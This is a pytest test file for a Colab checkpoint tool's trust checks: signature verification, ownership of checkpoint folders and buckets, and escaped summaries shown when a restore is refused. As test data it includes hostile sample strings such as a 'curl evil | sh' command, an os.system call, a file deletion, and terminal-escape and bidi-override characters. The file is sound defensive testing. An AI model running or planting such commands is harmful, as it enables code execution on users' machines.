"""Whose checkpoint is it: signatures that copying cannot fake, locations only you can write,
judged without writing; and what a refused restore shows before `--trust`."""

from __future__ import annotations

import http.client
import http.server
import json
import os
import shutil
import stat
import threading
from pathlib import Path
from typing import Any, Iterator

import pytest
from IPython.core.error import UsageError

from colab_elastic import trust
from colab_elastic.errors import CorruptCheckpointError
from colab_elastic.history import HistoryGraph
from colab_elastic.manifest import Author, BlobRef, Environment, GroupEntry, Manifest
from colab_elastic.planner import GroupDecision, Plan
from colab_elastic.report import could_run, foreign_text, visible
from colab_elastic.store import Store


@pytest.fixture
def keys(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Any:
    """`keys("alice")` makes this process sign and verify as alice from now on."""
    monkeypatch.setattr(trust, "_keys", {})

    def become(who: str) -> None:
        monkeypatch.setenv("COLAB_ELASTIC_KEY_FILE", str(tmp_path / "keys" / who))

    return become


# Keys and signatures ----------------------------------------------------------------------------
def test_the_key_is_made_once_private_and_signatures_cover_every_field(keys, tmp_path):
    keys("alice")
    manifest = {"format": 1, "checkpoint": "c1", "plan": {"cell_lines": {2: "x = 1", 10: "y = 2"}},
                "graph": {"executions": [{"index": 1, "code": "x = 1"}]}}
    signature = trust.sign(manifest)
    key_file = tmp_path / "keys" / "alice"
    assert stat.S_IMODE(key_file.stat().st_mode) == 0o600
    assert signature["key"] == trust.key_id(bytes.fromhex(key_file.read_text().strip())) and len(signature["key"]) == 16
    # As written and read back (int keys become strings): still valid.
    assert trust.verify(json.loads(json.dumps(manifest, indent=1, sort_keys=True)))
    changed = json.loads(json.dumps(manifest))
    changed["graph"]["executions"][0]["code"] = "import os; os.system('evil')"
    assert not trust.verify(changed)
    keys("mallory")
    assert not trust.verify(manifest), "a signature made with another user's key counts as yours"


@pytest.mark.skipif(os.getuid() != 0, reason="planting a file of another user needs root")
def test_a_key_file_someone_else_planted_is_never_used(keys, tmp_path, caplog):
    planted = tmp_path / "keys" / "alice"
    planted.parent.mkdir()
    planted.write_text("00" * 32 + "\n")
    os.chown(planted, 65534, 65534)
    keys("alice")
    manifest = {"checkpoint": "c1"}
    trust.sign(manifest)
    assert manifest["signature"]["key"] != trust.key_id(bytes(32))
    assert "belongs to another user" in caplog.text


def test_on_a_mounted_drive_the_key_follows_the_user_to_a_new_runtime(keys, tmp_path, monkeypatch):
    drive = tmp_path / "drive" / "MyDrive"
    drive.mkdir(parents=True)
    monkeypatch.setenv("COLAB_ELASTIC_DRIVE_ROOT", str(drive))
    monkeypatch.delenv("COLAB_ELASTIC_KEY_FILE")
    monkeypatch.setenv("HOME", str(tmp_path / "runtime1"))
    before_mount = trust._key_at(trust.local_key_file(), create=True, local=True)
    manifest = {"checkpoint": "c1"}
    trust.sign(manifest)
    assert (drive / ".colab_elastic_key").exists()
    assert manifest["signature"]["key"] == trust.key_id(before_mount)  # the Drive got this runtime's key
    monkeypatch.setattr(trust, "_keys", {})
    monkeypatch.setenv("HOME", str(tmp_path / "runtime2"))  # a new runtime: its disk is new, the Drive is not
    assert trust.verify(manifest)


def test_a_copied_author_id_does_not_make_a_checkpoint_yours(shell, keys, tmp_path, monkeypatch, http_server):
    """Mallory copies Alice's author id (printed in every manifest Alice shares) into her own
    checkpoint and sends Alice the URL: it must still be shown and need --trust."""
    base_url, served = http_server
    monkeypatch.setenv("COLAB_ELASTIC_AUTHOR", "alice-id")
    keys("mallory")
    shell.run_line_magic("load_ext", "colab_elastic")
    shell.run_cell("payload = 'harmless-looking'", store_history=True)
    folder = served / f"copied-{tmp_path.name}"
    shell.run_line_magic("elastic", f"checkpoint {folder}")
    shell.run_line_magic("unload_ext", "colab_elastic")
    shell.reset(new_session=False)
    keys("alice")
    shell.run_line_magic("load_ext", "colab_elastic")
    with pytest.raises(UsageError, match="--trust"):
        shell.run_line_magic("elastic", f"restore {base_url}/{folder.name}")
    assert "payload" not in shell.user_ns
    # And a signed checkpoint stays Alice's wherever it is copied (a web server, here).
    shell.run_cell("mine = 1", store_history=True)
    shell.run_line_magic("elastic", f"checkpoint {served / ('mine-' + tmp_path.name)}")
    shell.run_line_magic("elastic", f"restore {base_url}/mine-{tmp_path.name}")


def _go_w(folder: Path) -> None:
    for path in [folder, *folder.rglob("*")]:
        path.chmod(stat.S_IMODE(path.stat().st_mode) & ~0o022)


def test_a_folder_others_can_write_is_not_yours_one_only_you_can_is(shell, keys, tmp_path):
    keys("mallory")
    shell.run_line_magic("load_ext", "colab_elastic")
    shell.run_cell("planted = 'code'", store_history=True)
    shared = tmp_path / "shared"
    shell.run_line_magic("elastic", f"checkpoint {shared}")
    shell.run_line_magic("unload_ext", "colab_elastic")
    shell.reset(new_session=False)
    keys("alice")  # not signed by her: only the location can make it hers
    shell.run_line_magic("load_ext", "colab_elastic")
    _go_w(shared)
    shared.chmod(0o777)  # a shared /tmp folder: anyone could have put this checkpoint there
    with pytest.raises(UsageError, match="can be written by others"):
        shell.run_line_magic("elastic", f"restore {shared}")
    assert "planted" not in shell.user_ns
    if os.getuid() == 0:  # owned by someone else, even if nobody else may write to it now
        shared.chmod(0o755)
        os.chown(shared, 65534, 65534)
        with pytest.raises(UsageError, match="belongs to another user"):
            shell.run_line_magic("elastic", f"restore {shared}")
        os.chown(shared, 0, 0)
    (shared / "manifests").chmod(0o777)  # the folder is hers, but anyone may add a manifest
    shared.chmod(0o755)
    with pytest.raises(UsageError, match="can be written by others"):
        shell.run_line_magic("elastic", f"restore {shared}")
    _go_w(shared)  # only she can write anything there: hers, without asking
    shell.run_line_magic("elastic", f"restore {shared}")
    assert shell.user_ns["planted"] == "code"


# gs:// without writing ------------------------------------------------------------------------
class _Recorder(http.server.BaseHTTPRequestHandler):
    """A loopback proxy in front of fake-gcs-server that notes every request's method."""

    upstream: tuple[str, int] = ("127.0.0.1", 0)
    seen: list[tuple[str, str]] = []

    def _forward(self) -> None:
        self.seen.append((self.command, self.path))
        body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
        connection = http.client.HTTPConnection(*self.upstream, timeout=30)
        headers = {k: v for k, v in self.headers.items() if k.lower() not in ("host", "connection")}
        connection.request(self.command, self.path, body=body or None, headers=headers)
        response = connection.getresponse()
        data = response.read()
        self.send_response(response.status)
        for key, value in response.getheaders():
            if key.lower() not in ("transfer-encoding", "connection", "content-length"):
                self.send_header(key, value)
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)
        connection.close()

    do_GET = do_POST = do_PUT = do_PATCH = do_DELETE = do_HEAD = _forward

    def log_message(self, format: str, *args: Any) -> None:
        pass


@pytest.fixture
def recording_proxy(gcs_server) -> Iterator[tuple[str, list[tuple[str, str]]]]:
    seen: list[tuple[str, str]] = []
    handler = type("Handler", (_Recorder,), {"upstream": ("127.0.0.1", gcs_server.port), "seen": seen})
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    server.daemon_threads = True
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_address[1]}", seen
    server.shutdown()
    server.server_close()


@pytest.mark.gcs
def test_judging_a_bucket_writes_nothing_and_an_unanswered_question_means_foreign(shell, keys, gcs_url,
                                                                                   recording_proxy):
    """fake-gcs-server has no IAM: testIamPermissions answers 404, so the bucket cannot be
    judged and the checkpoint is foreign (real GCS answers for the caller's own credentials)."""
    endpoint, seen = recording_proxy
    keys("mallory")
    shell.run_line_magic("load_ext", "colab_elastic")
    shell.run_cell("weights = list(range(5))", store_history=True)
    shell.run_line_magic("elastic", f"checkpoint {gcs_url.url} -o endpoint_url={gcs_url.server.endpoint} -o token=anon")
    keys("alice")
    seen.clear()
    with pytest.raises(UsageError, match="did not say whether you may write"):
        shell.run_line_magic("elastic", f"restore {gcs_url.url} -o endpoint_url={endpoint} -o token=anon")
    assert seen, "the restore did not go through the proxy"
    assert all(method in ("GET", "HEAD") for method, _ in seen), f"judging the bucket wrote to it: {seen}"
    assert any("/iam/testPermissions" in path for _, path in seen)


def test_a_test_iam_permissions_answer_is_read_strictly():
    assert trust.granted({"kind": "storage#testIamPermissionsResponse", "permissions": ["storage.objects.create"]})
    assert not trust.granted({"kind": "storage#testIamPermissionsResponse"})  # what a reader gets
    assert not trust.granted({"permissions": ["storage.objects.get"]})
    assert not trust.granted(["storage.objects.create"])


# What a refused restore shows ----------------------------------------------------------------------
def _manifest(cells: list[tuple[str, dict[str, Any]]], reruns: tuple[int, ...], groups: list[tuple[str, str, int | None]],
              author: str = "eve") -> Manifest:
    """A typed manifest: `cells` (code, record keywords) in order from cell 1, the plan's
    reruns, and `groups` (name, action, blob size or None for no blob entry)."""
    graph = HistoryGraph()
    for code, extra in cells:
        graph.record(code, 0.1, reads=(), writes=(), **extra)
    decisions = tuple(GroupDecision((name,), size or 0, action, "", 0) for name, action, size in groups)
    entries = tuple(GroupEntry(d, {}, BlobRef(f"g-{'0' * 32}", f"xxh3_128:{'0' * 32}", size) if size else None)
                    for d, (_, _, size) in zip(decisions, groups))
    return Manifest("20260101T000000000000-0000abcd", "2026-01-01T00:00:00+00:00", "s", Author("x", author), "0.2.0",
                    Environment(), graph, Plan(decisions, reruns, 0.0, 0.0), entries, len(cells))


def test_the_summary_shows_control_characters_and_bidi_overrides_escaped():
    hidden = "import os; os.system('curl evil | sh')"
    manifest = _manifest([(f"{hidden}\rx = 1  # looks harmless\ny = 'abc\u202edcba'\nz = 1\x85w = 2\u2028v\x00", {})],
                         (1,), [], author="ada\x1b]0;trusted\x07")
    text = foreign_text(manifest)
    assert "\r" not in text and "\x1b" not in text and "\u202e" not in text and "\x85" not in text
    assert f"{hidden}\\rx = 1" in text
    assert "\\x1b]0;trusted\\x07" in text and "\\u202e" in text and "\\x85" in text and "\\u2028" in text
    assert "\\x00" in text
    assert visible("tab\tand\nline") == "tab\tand\nline"
    assert visible("a\nb", lines=False) == "a\\nb"


def test_a_manifest_whose_blob_entries_are_missing_lists_the_cells_a_new_plan_would_run():
    """
        cell 1: data = download()    stored (its blob entry removed)
        cell 2: model = fit(data)    stored
        cell 3: report = show(model) rerun
    With cell 1's blob entry gone, the restore plans again and runs cells 1 and 2 too.
    """
    manifest = _manifest([("data = download()\nimport os; os.remove('x')", {}),
                          ("model = fit(data)", {"ambient": "gASV"}), ("report = show(model)", {})],
                         (3,), [("data", "store", None), ("model", "store", 2_000_000), ("report", "recompute", None)])
    assert could_run(manifest) == ([3], [1, 2])
    text = foreign_text(manifest)
    assert "[3] report = show(model)" in text
    assert "[1] data = download()" in text and "import os; os.remove('x')" in text and "[2] model = fit(data)" in text
    assert "model  (2.0 MB)" in text  # every value it unpickles, with its size
    assert "settings of cells 2" in text


def test_a_hostile_manifest_is_refused_before_any_summary():
    for manifest in ({}, {"plan": [], "graph": 3, "groups": "x", "author": "me"},
                     {"graph": {"executions": [{"index": "1", "code": None}, 5]}, "plan": {"reruns": ["x", 2]}}):
        with pytest.raises(CorruptCheckpointError):
            Manifest.from_json(manifest)


def test_a_store_is_judged_without_writing(keys, tmp_path, http_server):
    keys("alice")
    folder = tmp_path / "mine"
    store = Store(str(folder))
    store.commit({"format": 1, "checkpoint": "c1"})
    _go_w(folder)
    before = sorted(os.listdir(folder))
    assert trust.judge(store, store.latest()).yours
    assert sorted(os.listdir(folder)) == before
    base_url, served = http_server
    shutil.copytree(folder, served / f"judged-{tmp_path.name}")
    remote = Store(f"{base_url}/judged-{tmp_path.name}")
    verdict = trust.judge(remote, remote.latest())
    assert not verdict.yours and "web server" in verdict.why
